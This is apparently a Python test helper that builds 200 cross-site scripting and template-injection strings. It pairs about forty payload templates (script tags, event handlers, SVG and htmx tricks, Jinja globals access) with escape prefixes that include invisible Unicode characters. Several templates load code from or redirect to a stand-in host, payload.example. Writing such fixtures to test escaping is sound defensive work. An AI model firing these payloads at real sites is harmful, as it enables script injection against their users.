"""Two hundred texts that run a script wherever somebody forgets to escape them."""

from itertools import islice, product

HIT = "window.__hit=1"
TAGS = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src=//payload.example/x.js></script>",
    "<img src=x onerror={js}>",
    "<img/src=x/onerror='{js}'>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{js}'><text y=20>x</text></a></svg>",
    "<math><mtext><img src=x onerror={js}></mtext></math>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src='javascript:parent.{js}'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='//payload.example/x.swf'>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<body onload={js}>",
    "<link rel=stylesheet href=//payload.example/x.css>",
    "<style>@import '//payload.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//payload.example/'>",
    "<base href=//payload.example/>",
    "<form action=//payload.example/ id=task><button>Send</button></form>",
    "<a href='javascript:{js}'>x</a>",
    "<template shadowrootmode=open><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<marquee onstart={js}>x</marquee>",
    "<div hx-get=/debrief hx-trigger=load hx-target=body></div>",
    "<div hx-on::load='{js}' hx-get=/help hx-trigger=load></div>",
    "<div data-hx-post=/stop data-hx-trigger=load></div>",
    "<div hx-vals='js:{{x:({js})}}' hx-get=/help hx-trigger='load[{js}]'></div>",
    "<span hx-swap-oob=innerHTML:#main>x</span>",
    "<script type=module>{js}</script>",
    "{{{{ self.__init__.__globals__ }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    "${{{js}}}",
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
)
"""Where ``{js}`` stands is what must not run."""
BEFORE = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title></p></li>",
    "-->",
    "\u202e\u2066",
    "\ufeff\u200b",
    "\uff1cscript\uff1e",
    "]]>",
)
"""What leaves an attribute, a tag, a comment, or the direction of a line."""


def payloads(n: int = 200) -> list[str]:
    """Return as many different ones, each tag after several ways out."""
    made = (before + tag.format(js=HIT) for before, tag in product(BEFORE, TAGS))
    return list(islice(made, n))
